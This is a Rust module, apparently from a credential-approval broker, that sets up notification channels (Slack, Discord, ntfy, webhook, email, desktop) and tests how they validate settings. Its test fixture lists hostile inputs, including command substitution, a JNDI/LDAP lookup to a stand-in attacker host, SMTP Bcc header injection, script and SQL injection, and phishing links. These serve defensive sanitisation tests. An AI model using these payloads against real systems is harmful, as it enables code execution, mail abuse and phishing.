//! Telling people that something waits for them. Nothing is decided over a channel, and nothing that is said over one is heard.

mod desktop;
mod discord;
mod email;
mod ntfy;
mod post;
mod slack;
mod webhook;
mod words;

use std::collections::BTreeMap;
use std::time::Duration;

use async_trait::async_trait;
use keywright_core::channel::{ChannelKind, Notice};
use keywright_core::secret::Secret;

use crate::wire::{Authority, CA_FILE};

pub use crate::consumer::{NotTold, Told};

/// How long a try may take in all.
const DEADLINE: Duration = Duration::from_secs(20);

/// What adding a channel of a kind takes.
pub struct KindFacts {
    /// The kind.
    pub kind: ChannelKind,
    /// What comes on standard input; nothing where there is no secret.
    pub credential: Option<&'static str>,
    /// Whether it works without that, too.
    pub is_optional: bool,
    /// What else it wants to know, and may; never a secret.
    pub settings: &'static [(&'static str, &'static str)],
    /// The settings that it can't do without.
    pub needed: &'static [&'static str],
}

/// The settings of the kinds.
const URL: &str = "url";
const SERVER: &str = "server";
const USER: &str = "user";
const FROM: &str = "from";
const TO: &str = "to";
const BUS: &str = "bus";

/// Every kind.
pub const KINDS: &[KindFacts] = &[
    KindFacts {
        kind: ChannelKind::Desktop,
        credential: None,
        is_optional: false,
        settings: &[(
            BUS,
            "the session bus, as in `unix:path=/run/user/1000/bus`; that of the broker's environment unless set",
        )],
        needed: &[],
    },
    KindFacts {
        kind: ChannelKind::Webhook,
        credential: Some("what messages are signed with: `whsec_` and the base64 of 24 to 64 random bytes"),
        is_optional: false,
        settings: &[(URL, "the address; plain http for loopback only"), CA_FILE],
        needed: &[URL],
    },
    KindFacts {
        kind: ChannelKind::Slack,
        credential: Some("the address of an incoming webhook, which lets whoever has it post"),
        is_optional: false,
        settings: &[],
        needed: &[],
    },
    KindFacts {
        kind: ChannelKind::Discord,
        credential: Some("the address of a webhook of the channel, which lets whoever has it post"),
        is_optional: false,
        settings: &[],
        needed: &[],
    },
    KindFacts {
        kind: ChannelKind::Ntfy,
        credential: Some(
            "the address of the topic, as in `https://ntfy.sh/TOPIC`, which lets whoever has it read and post; on a second line an access token, where the server wants one",
        ),
        is_optional: false,
        settings: &[CA_FILE],
        needed: &[],
    },
    KindFacts {
        kind: ChannelKind::Email,
        credential: Some("the password of `user`"),
        is_optional: true,
        settings: &[
            (
                SERVER,
                "`smtps://HOST` (port 465), or `smtp://HOST` (port 587, and STARTTLS); in the clear for loopback only",
            ),
            (USER, "as whom to log in; without it, nobody does"),
            (FROM, "the sender's address"),
            (TO, "a receiver's address; may be repeated"),
            CA_FILE,
        ],
        needed: &[SERVER, FROM, TO],
    },
];

/// What adding a channel of this kind takes.
#[must_use]
pub fn facts(kind: ChannelKind) -> Option<&'static KindFacts> {
    KINDS.iter().find(|facts| facts.kind == kind)
}

/// A way to tell people something.
#[async_trait]
pub trait Channel: Send + Sync {
    /// Tells it, once. Twice the same notice does no harm but that it is read twice.
    ///
    /// # Errors
    /// When it was not taken, or it is not known whether it was.
    async fn tell(&self, notice: &Notice) -> Result<Told, NotTold>;
}

/// Builds a channel; nothing is dialled yet.
///
/// # Errors
/// What is wrong with the configuration, in words for an operator. They quote no credential.
pub fn connect(
    kind: ChannelKind,
    settings: &BTreeMap<String, String>,
    credential: Option<&Secret>,
) -> Result<Box<dyn Channel>, String> {
    let facts = facts(kind).ok_or_else(|| format!("there is no channel `{kind}`"))?;
    let is_known = |name: &&String| facts.settings.iter().any(|(known, _)| known == name);
    if let Some(unknown) = settings.keys().find(|name| !is_known(name)) {
        let unknown = keywright_core::text::Untrusted::capped(unknown, 40);
        return Err(format!("a channel of the kind `{kind}` has no setting `{unknown}`"));
    }
    let get = |name: &str| settings.get(name).map(String::as_str).filter(|value| !value.is_empty());
    if let Some(missing) = facts.needed.iter().find(|name| get(name).is_none()) {
        return Err(format!("a channel of the kind `{kind}` needs `{missing}`"));
    }
    let given = |name| get(name).unwrap_or_default();
    let authority = Authority::of(facts.settings, get(CA_FILE.0));
    let secret =
        || credential.map(copied).ok_or_else(|| format!("a channel of the kind `{kind}` needs its secret"));
    Ok(match kind {
        ChannelKind::Desktop => Box::new(desktop::Desktop::new(get(BUS))),
        ChannelKind::Webhook => Box::new(webhook::Webhook::new(given(URL), secret()?, authority)?),
        ChannelKind::Slack => Box::new(slack::Slack::new(&secret()?)?),
        ChannelKind::Discord => Box::new(discord::Discord::new(&secret()?)?),
        ChannelKind::Ntfy => Box::new(ntfy::Ntfy::new(&secret()?, authority)?),
        ChannelKind::Email => {
            let login = match (get(USER), credential) {
                (Some(user), Some(password)) => Some((user.to_owned(), copied(password))),
                (None, None) => None,
                (Some(_), None) => return Err("the password of `user` is missing".to_owned()),
                (None, Some(_)) => return Err("there is a password, and no `user` whose it is".to_owned()),
            };
            Box::new(email::Email::new(given(SERVER), (given(FROM), given(TO)), login, &authority)?)
        }
    })
}

fn copied(secret: &Secret) -> Secret {
    Secret::new(secret.expose_secret().to_owned())
}

fn not_told(why: impl Into<String>, said: &str) -> NotTold {
    NotTold { why: why.into(), said: keywright_core::text::Untrusted::capped(said, 2_000) }
}

#[cfg(test)]
mod testing {
    use keywright_core::channel::{Matter, Notice, Onward};
    use keywright_core::id::NoticeId;
    use keywright_core::span::Span;
    use keywright_core::text::{Untrusted, escaped};
    use keywright_core::verdict::Level;

    /// A notice with the same text wherever somebody else's may be.
    pub(super) fn notice(text: &str) -> Notice {
        let at = jiff::Timestamp::UNIX_EPOCH;
        let escaped = escaped(text);
        Notice {
            id: NoticeId::generate(at, [1; 10]),
            turn: 0,
            channel: "ops".parse().unwrap(),
            matter: Matter::Request,
            about: "req_01970000000070008000000000000000".to_owned(),
            at,
            waited: Some(Span::from_seconds(720)),
            level: Some(Level::High),
            line: format!("new Cloudflare token, {escaped} on 1 zone, 30 days, production"),
            facts: vec![("asked by", format!("agent {escaped}")), ("match code", "abcd-efgh".to_owned())],
            onward: Some(Onward::Page(
                "https://keys.example.com/r/req_01970000000070008000000000000000".to_owned(),
            )),
            purpose: Some(Untrusted::capped(text, 500)),
        }
    }

    /// What people have tried on programs that print what others wrote.
    pub(super) const NAUGHTY: [&str; 16] = [
        "<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD>",
        "@everyone @here <@&1234> <@!1234>",
        "<https://evil.example|Approve here> [Approve here](https://evil.example)",
        "https://evil.example/approve www.evil.example",
        "`code` ``` *bold* _it_ ~no~ ||spoiler|| > quote # head",
        "a\nSubject: other\r\nBcc: eve@evil.example\r\n\r\nbody",
        ".\r\n.\r\nQUIT",
        "</b><script>alert(1)</script><a href=\"https://evil.example\">x</a>&amp;",
        "\u{202e}evorppa\u{200b}\u{feff}\u{e0041}",
        "\u{1b}[2J\u{9b}31m\u{7}\0",
        "'; DROP TABLE requests; --",
        "$(reboot) `reboot` %s %n {{7*7}} ${jndi:ldap://evil.example}",
        "田中さんにあげて下さい 😍 Ω≈ç√∫˜µ≤≥÷ ﷽",
        "-a --help",
        "\\` \\\\ \" ' \\u0060",
        "",
    ];
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_channel_lacks_or_does_not_know_is_said_and_no_secret_is_quoted() {
        let url = "https://hooks.slack.example/services/T000/B000/Canary";
        let given = |pairs: &[(&str, &str)]| {
            pairs
                .iter()
                .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
                .collect::<BTreeMap<_, _>>()
        };
        let mail = [
            ("server", "smtps://mail.example.com"),
            ("from", "kw@example.com"),
            ("to", "ana@example.com, Bo <bo@example.com>"),
        ];
        let without =
            |name: &str| mail.iter().filter(|(known, _)| *known != name).copied().collect::<Vec<_>>();
        let bad: Vec<(ChannelKind, Vec<(&str, &str)>, Option<&str>, &str)> = vec![
            (ChannelKind::Slack, vec![], None, "needs its secret"),
            (ChannelKind::Slack, vec![("url", url)], Some(url), "has no setting `url`"),
            (
                ChannelKind::Slack,
                vec![],
                Some("http://hooks.slack.example/Canary"),
                "plain http is for loopback only",
            ),
            (ChannelKind::Slack, vec![], Some("https://x:Canary@y/"), "without user, query or fragment"),
            (ChannelKind::Discord, vec![], Some("Canary"), "write the whole address"),
            (ChannelKind::Discord, vec![], Some("https://169.254.169.254/Canary"), "may not be dialled"),
            (ChannelKind::Ntfy, vec![], Some("https://ntfy.example/"), "ends with the topic"),
            (ChannelKind::Ntfy, vec![], Some("https://ntfy.example/Canary\ntk\nthird"), "two lines"),
            (ChannelKind::Webhook, vec![], Some("whsec_Canary"), "needs `url`"),
            (ChannelKind::Webhook, vec![("url", "https://x.example")], Some("Canary"), "whsec_"),
            (ChannelKind::Email, without("to"), None, "needs `to`"),
            (ChannelKind::Email, mail.to_vec(), Some("Canary"), "no `user`"),
            (ChannelKind::Email, [mail.to_vec(), vec![("user", "u")]].concat(), None, "password"),
            (
                ChannelKind::Email,
                [without("server"), vec![("server", "http://mail.example.com")]].concat(),
                None,
                "smtps://",
            ),
            (
                ChannelKind::Email,
                [without("server"), vec![("server", "smtp://169.254.169.254")]].concat(),
                None,
                "not a public address",
            ),
            (
                ChannelKind::Email,
                [without("from"), vec![("from", "kw")]].concat(),
                None,
                "`kw` is no address",
            ),
            (
                ChannelKind::Email,
                [without("to"), vec![("to", "a@x.example\r\nBcc: eve@evil.example")]].concat(),
                None,
                "is no address",
            ),
        ];
        for (kind, settings, secret, says) in bad {
            let secret = secret.map(|text| Secret::new(text.to_owned()));
            let error = connect(kind, &given(&settings), secret.as_ref()).err().unwrap_or_default();
            assert!(error.contains(says), "{kind} {settings:?}: {error}");
            assert!(!error.contains("Canary"), "{error}");
        }
        let good: Vec<(ChannelKind, Vec<(&str, &str)>, Option<&str>)> = vec![
            (ChannelKind::Desktop, vec![], None),
            (ChannelKind::Slack, vec![], Some(url)),
            (ChannelKind::Discord, vec![], Some("https://discord.example/api/webhooks/1/Canary\n")),
            (ChannelKind::Ntfy, vec![], Some("https://ntfy.example/topic\ntk_token\n")),
            (ChannelKind::Email, [mail.to_vec(), vec![("user", "u")]].concat(), Some("word")),
            (ChannelKind::Email, mail.to_vec(), None),
        ];
        for (kind, settings, secret) in good {
            let secret = secret.map(|text| Secret::new(text.to_owned()));
            assert_eq!(connect(kind, &given(&settings), secret.as_ref()).err(), None, "{kind}");
        }
        for kind in ChannelKind::ALL {
            assert!(facts(*kind).is_some(), "{kind}");
        }
    }
}
